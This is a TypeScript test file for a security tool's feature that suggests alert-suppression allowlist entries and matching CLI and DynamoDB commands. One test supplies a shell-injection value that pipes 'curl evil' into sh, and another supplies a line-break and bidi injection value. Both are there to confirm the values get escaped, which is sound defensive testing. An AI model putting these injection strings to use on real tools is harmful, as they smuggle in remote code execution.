import { literalGlob, SUGGESTED_EXPIRY_DAYS, suggestSuppression } from '../../lib/alerts/suppression';
import { compileEntry, entrySuppresses, globMatch, itemToEntry } from '../../lib/allowlist';
import type { Alert, Detection } from '../../lib/model';
import { containerAlert, detectionOf, VM_RULE, vmAlert, vmEvent } from './fixtures';

const NOW = Date.parse('2026-11-20T15:00:00Z');

function detectionFrom(alert: Alert): Detection {
  return { rule: { ...VM_RULE, id: alert.ruleId }, severity: alert.severity, event: alert.event };
}

describe('suggestSuppression', () => {
  it('suggests an entry that suppresses exactly this alert on this host', () => {
    const alert = vmAlert();
    const suggestion = suggestSuppression(alert, { nowMs: NOW });
    expect(suggestion?.entry).toMatchObject({
      host: 'wks-0142.corp.example.com',
      rule: alert.ruleId,
      match: { Image: 'C:\\Users\\alice\\AppData\\Local\\Temp\\vb\\VBoxHeadless.exe' },
      expiresAt: Math.floor(NOW / 1000) + SUGGESTED_EXPIRY_DAYS * 86_400,
    });
    const compiled = compileEntry(suggestion!.entry);
    expect(entrySuppresses(compiled, detectionFrom(alert), NOW)).toBe(true);
  });

  it('does not suppress another image, another host or another rule', () => {
    const entry = compileEntry(suggestSuppression(vmAlert(), { nowMs: NOW })!.entry);
    const otherImage = detectionOf(vmEvent({ Image: 'C:\\Tools\\VBoxHeadless.exe' }));
    const otherHost = detectionOf({ ...vmEvent(), host: { hostname: 'wks-0999' } });
    const otherRule = { ...detectionOf(), rule: { ...VM_RULE, id: 'another-rule' } };
    expect(entrySuppresses(entry, otherImage, NOW)).toBe(false);
    expect(entrySuppresses(entry, otherHost, NOW)).toBe(false);
    expect(entrySuppresses(entry, otherRule, NOW)).toBe(false);
  });

  it('pins the entry to the log stream that delivered the alert, so a record claiming the host elsewhere is not covered', () => {
    const suggestion = suggestSuppression(vmAlert(), { nowMs: NOW })!;
    expect(suggestion.entry.pin).toEqual({ source: 'logStream', value: 'i-0abc123def4567890' });
    expect(suggestion.entry.matchAny).toBeUndefined();
    const entry = compileEntry(suggestion.entry);
    const event = vmEvent();
    const forged = detectionOf({
      ...event,
      provenance: { ...event.provenance, logStream: 'i-0fffffffffffffff0' },
    });
    expect(entrySuppresses(entry, forged, NOW)).toBe(false);
    expect(entrySuppresses(entry, detectionFrom(vmAlert()), NOW)).toBe(true);
    const item = JSON.parse(suggestion.putItem.slice(suggestion.putItem.indexOf("--item '") + 8, -1));
    expect(item.pin).toEqual({ M: { source: { S: 'logStream' }, value: { S: 'i-0abc123def4567890' } } });
  });

  it('stops suppressing after 30 days', () => {
    const entry = compileEntry(suggestSuppression(vmAlert(), { nowMs: NOW })!.entry);
    expect(entrySuppresses(entry, detectionOf(), NOW + 31 * 86_400_000)).toBe(false);
  });

  it('matches on ContainerImage when nothing ran as a process', () => {
    const suggestion = suggestSuppression(containerAlert(), { nowMs: NOW });
    expect(suggestion?.entry.match).toEqual({ ContainerImage: 'docker.io/library/alpine:3.20' });
    expect(suggestion?.entry.host).toBe('prod-eks');
  });

  it('gives the put-item form whose item reads back as the same entry', () => {
    const suggestion = suggestSuppression(vmAlert(), { nowMs: NOW, allowlistTable: 'vmsentry-allowlist' })!;
    expect(suggestion.putItem).toMatch(/^aws dynamodb put-item --table-name 'vmsentry-allowlist' --item '\{/);
    const itemJson = suggestion.putItem.slice(suggestion.putItem.indexOf("--item '") + 8, -1);
    const item = JSON.parse(itemJson) as Record<string, Record<string, unknown>>;
    const plain = Object.fromEntries(
      Object.entries(item).map(([key, value]) => [
        key,
        value['S'] ?? (value['N'] ? Number(value['N']) : fromMap(value['M'])),
      ]),
    );
    const read = itemToEntry(plain);
    expect(read.ok && read.entry).toMatchObject({ rule: suggestion.entry.rule, match: suggestion.entry.match });
  });

  it('gives the CLI form with the real add flags, every value single-quoted', () => {
    const { cli, json } = suggestSuppression(vmAlert(), { nowMs: NOW, allowlistTable: 'vmsentry-allowlist' })!;
    expect(cli).toBe(
      "vmsentry allowlist add --table 'vmsentry-allowlist' --host 'wks-0142.corp.example.com' " +
        `--rule '${vmAlert().ruleId}' --match 'Image=C:\\Users\\alice\\AppData\\Local\\Temp\\vb\\VBoxHeadless.exe' ` +
        "--pin-log-stream 'i-0abc123def4567890' " +
        `--reason 'Expected activity: replace with why (alert ${vmAlert().id})' --owner 'REPLACE_WITH_YOUR_NAME' --expires 30d`,
    );
    expect(JSON.parse(json)).toEqual(suggestSuppression(vmAlert(), { nowMs: NOW })!.entry);
  });

  it('in local mode, targets the local instance: npx vmsentry ... --local, and put-item with the local endpoint', () => {
    const options = { nowMs: NOW, allowlistTable: 'vmsentry-local-allowlist' };
    const local = suggestSuppression(vmAlert(), { ...options, localDynamoEndpoint: 'http://127.0.0.1:8421' })!;
    expect(local.cli).toMatch(/^npx vmsentry allowlist add --local --host 'wks-0142\.corp\.example\.com' --rule /);
    expect(local.cli).not.toContain('--table');
    expect(local.putItem).toMatch(
      /^aws dynamodb put-item --endpoint-url 'http:\/\/127\.0\.0\.1:8421' --table-name 'vmsentry-local-allowlist' --item '/,
    );
    // The entry itself is the same as deployed: only where it is written changes.
    const deployed = suggestSuppression(vmAlert(), options)!;
    expect(local.entry).toEqual(deployed.entry);
    expect(local.cli.slice(local.cli.indexOf(' --host'))).toBe(deployed.cli.slice(deployed.cli.indexOf(' --host')));
    // Deployed alerts keep their suggestion: bare `vmsentry` with the table, and no endpoint.
    expect(deployed.cli).toMatch(/^vmsentry allowlist add --table 'vmsentry-local-allowlist' --host /);
    expect(deployed.putItem).not.toContain('--endpoint-url');
  });

  it('keeps a hostile image with quotes inside its shell quotes', () => {
    const alert = vmAlert(vmEvent({ Image: "C:\\x'; curl evil | sh; echo '" }));
    const { cli, putItem } = suggestSuppression(alert, { nowMs: NOW })!;
    // Every single quote from the value is closed, escaped and reopened.
    for (const command of [cli, putItem]) expect(command).toContain("'\\''");
    expect(cli).toContain("--match 'Image=C:\\x'\\''; curl evil | sh; echo '\\'''");
  });

  it('does not offer an image with line breaks or bidi characters as a CLI argument, only as escaped JSON', () => {
    const alert = vmAlert(vmEvent({ Image: 'C:\\x\r\nBcc: a@b\u202e.exe' }));
    const { cli, json, putItem } = suggestSuppression(alert, { nowMs: NOW })!;
    expect(cli).toContain('UNPRINTABLE-VALUE-USE-THE-JSON-FORM');
    for (const command of [cli, json, putItem]) expect(command).not.toMatch(/[\r\n\u202e]/);
    expect(json).toContain('\\r\\nBcc: a@b\\u202e.exe');
  });

  it('escapes glob characters so the entry matches the literal value only', () => {
    const glob = literalGlob('C:\\odd*name?.exe');
    expect(globMatch(glob, 'C:\\odd*name?.exe')).toBe(true);
    expect(globMatch(glob, 'C:\\oddXXname1.exe')).toBe(false);
  });

  it('falls back to a prefix glob for an image longer than a glob may be, and says so', () => {
    const image = `C:\\${'a\\'.repeat(200)}VBoxHeadless.exe`;
    const suggestion = suggestSuppression(vmAlert(vmEvent({ Image: image })), { nowMs: NOW })!;
    const glob = suggestion.entry.match?.['Image'] ?? '';
    expect(glob.endsWith('*')).toBe(true);
    expect(globMatch(glob, image)).toBe(true);
    expect(suggestion.note).toMatch(/prefix/);
  });

  it('warns when no field names what ran', () => {
    const alert = vmAlert(vmEvent({ Image: undefined as unknown as string }));
    const event = { ...alert.event, fields: { User: 'x' } };
    const suggestion = suggestSuppression({ ...alert, event }, { nowMs: NOW });
    expect(suggestion?.entry.match).toBeUndefined();
    expect(suggestion?.note).toMatch(/every alert of this rule/);
  });

  it('offers nothing when no host key is a valid allowlist host', () => {
    const alert = { ...vmAlert(), host: 'bad host!', hostKeys: ['bad host!'] };
    expect(suggestSuppression(alert, { nowMs: NOW })).toBeUndefined();
  });
});

function fromMap(map: unknown): Record<string, unknown> | undefined {
  if (!map || typeof map !== 'object') return undefined;
  return Object.fromEntries(Object.entries(map).map(([k, v]) => [k, (v as { S: string }).S]));
}
